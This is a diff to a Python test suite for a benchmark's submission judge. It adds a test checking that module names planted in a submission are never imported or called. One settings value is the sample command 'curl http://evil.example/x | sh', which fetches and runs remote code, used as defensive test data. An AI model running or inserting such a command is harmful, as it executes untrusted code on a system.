@@ -1,5 +1,6 @@
 """Every way to cheat that we know of, tried on a real run: each is caught, and for the right reason."""
 
+import contextlib
 import json
 import pickle
 import shutil
@@ -14,10 +15,12 @@ from reincarnate.benchmark.prior.ancestors import enter
 from reincarnate.benchmark.prior.load import policy_of, pull_teacher, read_config
 from reincarnate.benchmark.prior.measure import measure
 from reincarnate.benchmark.prior.promote import promote
+from reincarnate.benchmark.runs.request import RunRequest
 from reincarnate.benchmark.runs.run import run
 from reincarnate.benchmark.submission import agree, asked, same
 from reincarnate.benchmark.submission import judge as judges
 from reincarnate.benchmark.submission.judge import judge
+from reincarnate.benchmark.submission.retrain import wanted
 from reincarnate.benchmark.submission.submit import Offer, case_of, prepare
 from reincarnate.benchmark.tasks.environments import make, seeds
 from reincarnate.benchmark.tasks.task import find
@@ -250,6 +253,52 @@ def test_a_task_that_imports_a_module(mine):
         )
     )
     assert "names a module" in told
+
+
+def asking(mine: Honest, record: dict[str, Any], **request: Any) -> Honest:
+    """The run with other fields and another request, command and ledger in keeping with it."""
+
+    def change(lines):
+        lines[0].update(json.loads(json.dumps(record)))
+        lines[0]["request"].update(request)
+        lines[0]["command"] = RunRequest.from_json(lines[0]["request"]).command()
+
+    told = RunRequest.from_json({**ledger.read(_log(mine))[0]["request"], **request})
+    return rewritten(mine, {**record, "command": told.command()}, change)
+
+
+def _log(mine: Honest) -> Path:
+    return mine.folder / paths("ann", mine.one.record.run)[1]
+
+
+@pytest.mark.parametrize("what", ["method", "base", "task", "wrapper", "function", "teacher"])
+def test_nothing_that_a_submission_names_is_imported_or_called(mine, tmp_path, monkeypatch, what):
+    """A module that is there, say of Python itself: its function would be called with the settings as its words."""
+    (tmp_path / "there.py").write_text(
+        "from pathlib import Path\nPath(__file__).with_name('imported').touch()\n"
+        "def called(cmd='', *more, **others):\n    Path(__file__).with_name('called').touch()\n"
+    )
+    monkeypatch.syspath_prepend(tmp_path)
+    settings = {"cmd": "curl http://evil.example/x | sh"}
+    changes: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
+        "method": ({"method": "there:called", "settings": settings}, {"method": "there:called", "settings": settings}),
+        "base": ({"settings": {"base": "there:called"}}, {"settings": {"base": "there:called"}}),
+        "task": ({"task": "gym/there:X-v0"}, {"task": "gym/there:X-v0"}),
+        "wrapper": ({"task": f"{TASK}+there:called"}, {"task": f"{TASK}+there:called"}),
+        "function": ({"settings": {"network": "there:called"}}, {"settings": {"network": "there:called"}}),
+        "teacher": ({}, {"teacher": "there:called"}),
+    }
+    forged = asking(mine, *changes[what][:1], **changes[what][1])
+    case = case_of(forged.folder, forged.one)
+    verdict = judge(case, nothing(forged.folder))
+    with contextlib.suppress(ValueError):
+        assert ":" not in wanted(forged.one.record, case.lines[0], "bundled").teacher
+    assert [path.name for path in tmp_path.glob("*ed")] == []
+    assert verdict.state == "rejected" or what in (
+        "method",
+        "base",
+        "teacher",
+    )  # a stranger's code may be, and stays apart
 
 
 def test_evaluation_episodes_cherry_picked(mine):
